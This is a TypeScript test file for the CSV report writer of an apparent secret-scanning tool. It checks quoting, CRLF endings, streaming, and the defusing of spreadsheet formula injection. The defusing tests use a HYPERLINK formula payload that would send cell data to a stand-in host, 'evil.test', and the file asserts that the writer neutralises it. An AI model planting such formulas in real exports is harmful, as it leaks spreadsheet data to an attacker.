// CSV as RFC 4180 says and spreadsheets read it: a header row, CRLF line ends, cells with
// commas, quotes or line breaks quoted (quotes doubled), and cells a spreadsheet would run
// as a formula (= + - @ tab CR first) prefixed with a quote mark.
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { csvFormat } from '../../src/report/csv.js';
import type { RedactedFinding } from '../../src/model/types.js';
import { OneShot, occurrence, redactedFinding } from '../helpers/findings.js';

/** The whole report, as the CLI writes it piece by piece. */
const formatCsv = (findings: readonly RedactedFinding[]): string => [...csvFormat.write(findings)].join('');

/** A strict RFC 4180 reader: rows of cells, CRLF between records. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let at = 0;
  while (at < text.length) {
    if (text[at] === '"' && cell === '') {
      at += 1;
      for (;;) {
        const quote = text.indexOf('"', at);
        assert.notEqual(quote, -1, 'unterminated quoted cell');
        cell += text.slice(at, quote);
        at = quote + 1;
        if (text[at] !== '"') break;
        cell += '"';
        at += 1;
      }
      continue;
    }
    if (text[at] === ',') {
      row.push(cell);
      cell = '';
      at += 1;
    } else if (text.startsWith('\r\n', at)) {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      at += 2;
    } else {
      assert.ok(text[at] !== '"' && text[at] !== '\r' && text[at] !== '\n', `bare ${JSON.stringify(text[at])} outside quotes at ${at}`);
      cell += text[at];
      at += 1;
    }
  }
  assert.equal(cell === '' && row.length === 0, true, 'the last record must end with CRLF');
  return rows;
}

describe('csv report', () => {
  it('starts with a header row naming each column, and has one CRLF-terminated row per finding', () => {
    const text = formatCsv([redactedFinding(), redactedFinding({ ruleId: 'email', line: 9 })]);
    const rows = parseCsv(text);
    assert.deepEqual(rows[0], ['id', 'ruleId', 'category', 'confidence', 'reasons', 'description', 'path', 'line', 'column', 'commit', 'author', 'email', 'date', 'message', 'secret', 'match', 'decoded', 'fingerprint', 'occurrenceCount']);
    assert.equal(rows.length, 3);
    const header = rows[0] as string[];
    const second = Object.fromEntries(header.map((name, index) => [name, rows[2]?.[index]]));
    assert.equal(second.ruleId, 'email');
    assert.equal(second.line, '9');
    assert.equal(second.decoded, '', 'an absent field is an empty cell');
    assert.equal(formatCsv([]), `${header.join(',')}\r\n`);
  });

  it('quotes cells holding commas, quotes or line breaks, doubling the quotes, so they read back whole', () => {
    const message = 'fix: "quoted", with comma\r\nand a second line\nand a third';
    const path = 'dir,with,commas/file "x".txt';
    const text = formatCsv([redactedFinding({ message, path })]);
    assert.ok(text.includes('"fix: ""quoted"", with comma'));
    const [header, row] = parseCsv(text);
    assert.equal(row?.[header?.indexOf('message') ?? -1], message);
    assert.equal(row?.[header?.indexOf('path') ?? -1], path);
  });

  it('leaves plain cells unquoted', () => {
    const text = formatCsv([redactedFinding({ author: 'Ana Lima' })]);
    assert.ok(text.includes(',Ana Lima,'));
  });

  for (const lead of ['=', '+', '-', '@', '\t', '\r']) {
    it(`defuses a cell that starts with ${JSON.stringify(lead)} by prefixing a quote mark`, () => {
      const payload = `${lead}HYPERLINK("http://evil.test/?"&A1)`;
      const [header, row] = parseCsv(formatCsv([redactedFinding({ message: payload })]));
      const cell = row?.[header?.indexOf('message') ?? -1];
      assert.equal(cell, `'${payload}`);
    });
  }

  it('does not touch those characters anywhere but first', () => {
    const [header, row] = parseCsv(formatCsv([redactedFinding({ message: 'a=b+c-d@e' })]));
    assert.equal(row?.[header?.indexOf('message') ?? -1], 'a=b+c-d@e');
  });

  it('streams: the writer takes findings one at a time and its pieces join to the whole report', () => {
    const findings = Array.from({ length: 5 }, (_, i) => redactedFinding({ line: i + 1, occurrences: [occurrence('x.txt', i + 2)] }));
    const source = new OneShot(findings);
    const pieces = csvFormat.write(source)[Symbol.iterator]();
    const first = [pieces.next(), pieces.next()];
    assert.equal(source.taken, 1, 'the header and the first row need only the first finding');
    const rest: string[] = [];
    for (let next = pieces.next(); next.done !== true; next = pieces.next()) rest.push(next.value);
    const whole = [...first.map((piece) => (piece.done === true ? '' : piece.value)), ...rest].join('');
    assert.equal(whole, formatCsv(findings));
    assert.equal(parseCsv(whole)[1]?.at(-1), '1', 'occurrenceCount, not the list');
    assert.equal(csvFormat.name, 'csv');
    assert.equal([...csvFormat.write(findings)].join(''), [...csvFormat.write(new OneShot(findings))].join(''));
  });
});
